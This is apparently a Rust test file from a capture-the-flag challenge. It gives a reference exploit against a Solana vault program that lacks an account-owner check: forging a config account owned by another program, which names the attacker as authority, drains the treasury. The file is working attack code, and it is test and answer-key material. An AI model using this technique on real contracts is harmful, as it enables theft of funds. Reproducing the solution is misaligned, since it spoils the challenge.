@@ -0,0 +1,167 @@
+//! Reference exploit for pinocchio-owner-check.
+//!
+//! The admin funds the treasury, then an attacker passes a config account
+//! owned by another program that names the attacker as authority. `withdraw`
+//! reads it like the real one and pays out. On a live cluster the forged
+//! config comes from a program the attacker deploys; here it is written with
+//! `set_account`.
+//!
+//! The Pinocchio crate has no `solana-program` types, so the instructions are
+//! assembled here from the layout documented on `VaultInstruction`.
+
+use ctf_fixtures::assertions::{assert_instruction_fails_with, assert_lamport_drain, lamports};
+use ctf_fixtures::CtfEnvironment;
+use pinocchio_owner_check::error::OwnerCheckError;
+use pinocchio_owner_check::instruction::VaultInstruction;
+use pinocchio_owner_check::state::Config;
+use pinocchio_owner_check::{CONFIG_SEED, TREASURY_SEED};
+use solana_sdk::{
+    account::{Account, AccountSharedData},
+    instruction::{AccountMeta, Instruction},
+    pubkey::Pubkey,
+    rent::Rent,
+    signature::Signer,
+    system_program,
+};
+
+const DEPOSIT: u64 = 1_000_000_000;
+
+fn program_id() -> Pubkey {
+    Pubkey::new_from_array(pinocchio_owner_check::ID)
+}
+
+fn instruction(tag: VaultInstruction, accounts: Vec<AccountMeta>, data: &[u8]) -> Instruction {
+    let mut bytes = vec![tag as u8];
+    bytes.extend_from_slice(data);
+    Instruction {
+        program_id: program_id(),
+        accounts,
+        data: bytes,
+    }
+}
+
+/// `Withdraw` or `SecureWithdraw` of `amount` to `destination`
+fn withdraw(tag: VaultInstruction, config: Pubkey, authority: Pubkey, destination: Pubkey, amount: u64) -> Instruction {
+    let (treasury, _) = Pubkey::find_program_address(&[TREASURY_SEED], &program_id());
+    instruction(
+        tag,
+        vec![
+            AccountMeta::new_readonly(config, false),
+            AccountMeta::new(treasury, false),
+            AccountMeta::new_readonly(authority, true),
+            AccountMeta::new(destination, false),
+        ],
+        &amount.to_le_bytes(),
+    )
+}
+
+/// Initialize with the first victim as authority and fund the treasury,
+/// returning the config and treasury addresses
+async fn funded_treasury(env: &mut CtfEnvironment) -> (Pubkey, Pubkey) {
+    let admin = env.victims[0].insecure_clone();
+    let (config, config_bump) = Pubkey::find_program_address(&[CONFIG_SEED], &program_id());
+    let (treasury, treasury_bump) = Pubkey::find_program_address(&[TREASURY_SEED], &program_id());
+    env.process(
+        &[
+            instruction(
+                VaultInstruction::Initialize,
+                vec![
+                    AccountMeta::new(config, false),
+                    AccountMeta::new(treasury, false),
+                    AccountMeta::new(admin.pubkey(), true),
+                    AccountMeta::new_readonly(system_program::id(), false),
+                ],
+                &[config_bump, treasury_bump],
+            ),
+            instruction(
+                VaultInstruction::Deposit,
+                vec![
+                    AccountMeta::new(treasury, false),
+                    AccountMeta::new(admin.pubkey(), true),
+                    AccountMeta::new_readonly(system_program::id(), false),
+                ],
+                &DEPOSIT.to_le_bytes(),
+            ),
+        ],
+        &[&admin],
+    )
+    .await
+    .expect("treasury setup");
+    (config, treasury)
+}
+
+/// A config naming `authority`, byte-for-byte valid but owned by another program
+fn forge_config(env: &mut CtfEnvironment, authority: &Pubkey) -> Pubkey {
+    let (_, treasury_bump) = Pubkey::find_program_address(&[TREASURY_SEED], &program_id());
+    let mut data = vec![Config::DISCRIMINATOR, treasury_bump];
+    data.extend_from_slice(authority.as_ref());
+    assert_eq!(data.len(), Config::LEN);
+
+    let forged = Pubkey::new_unique();
+    let attacker_program = Pubkey::new_unique();
+    env.context.set_account(
+        &forged,
+        &AccountSharedData::from(Account {
+            lamports: Rent::default().minimum_balance(Config::LEN),
+            data,
+            owner: attacker_program,
+            executable: false,
+            rent_epoch: 0,
+        }),
+    );
+    forged
+}
+
+#[tokio::test]
+async fn forged_config_drains_the_treasury() {
+    let mut env = CtfEnvironment::builder()
+        .seed(pinocchio_owner_check::CHALLENGE_ID)
+        .players(1)
+        .victims(1)
+        .build()
+        .await;
+    let attacker = env.players[0].insecure_clone();
+    let (config, treasury) = funded_treasury(&mut env).await;
+    let before = lamports(&mut env.context.banks_client, &treasury).await;
+
+    // The real config rejects the attacker
+    assert_instruction_fails_with(
+        env.process(
+            &[withdraw(VaultInstruction::Withdraw, config, attacker.pubkey(), attacker.pubkey(), DEPOSIT)],
+            &[&attacker],
+        )
+        .await,
+        OwnerCheckError::NotAuthority,
+    );
+
+    let forged = forge_config(&mut env, &attacker.pubkey());
+    env.process(
+        &[withdraw(VaultInstruction::Withdraw, forged, attacker.pubkey(), attacker.pubkey(), DEPOSIT)],
+        &[&attacker],
+    )
+    .await
+    .expect("withdraw with a forged config");
+
+    assert_lamport_drain(&mut env.context.banks_client, &treasury, before, DEPOSIT).await;
+}
+
+#[tokio::test]
+async fn secure_withdraw_is_the_player_todo() {
+    let mut env = CtfEnvironment::builder()
+        .seed(pinocchio_owner_check::CHALLENGE_ID)
+        .players(1)
+        .victims(1)
+        .build()
+        .await;
+    let admin = env.victims[0].insecure_clone();
+    let (config, _) = funded_treasury(&mut env).await;
+
+    assert_instruction_fails_with(
+        env.process(
+            &[withdraw(VaultInstruction::SecureWithdraw, config, admin.pubkey(), admin.pubkey(), DEPOSIT)],
+            &[&admin],
+        )
+        .await,
+        OwnerCheckError::NotImplemented,
+    );
+}